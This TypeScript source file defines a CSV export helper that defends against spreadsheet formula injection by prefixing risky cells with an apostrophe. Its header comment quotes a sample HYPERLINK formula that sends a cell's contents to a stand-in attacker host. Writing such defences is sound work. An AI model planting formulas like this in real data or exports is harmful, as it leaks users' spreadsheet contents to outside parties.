// Every CSV the API writes (activity, audit, usage and summary reports) goes through toCsv. Names in
// those files come from users and from Dropbox (task, member, team folder, file names), and a
// spreadsheet runs a cell that starts with = + - @ (or a tab / carriage return before one) as a
// formula: `=HYPERLINK("https://evil.example/?"&A1, "Open")` in a task name would leak the sheet.
// Such a cell is written with a leading apostrophe, which spreadsheets show as text (OWASP's advice
// for CSV injection). Numbers are written as numbers: a negative count stays -1.
import { stringify } from 'csv-stringify/sync';

const FORMULA_START = /^[=+\-@\t\r]/;

/** The text a spreadsheet will not evaluate: `'` before a value that could start a formula. */
export function neutralizeFormula(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

export interface CsvOptions {
  /** Column names written as the first row. */
  columns?: string[];
}

/** Rows of cells as CSV (RFC 4180 quoting, `\n` line ends), every text cell neutralized. */
export function toCsv(rows: readonly (readonly unknown[])[], opts: CsvOptions = {}): string {
  return stringify(rows as unknown[][], {
    ...(opts.columns ? { header: true, columns: opts.columns } : {}),
    cast: { string: neutralizeFormula },
  });
}
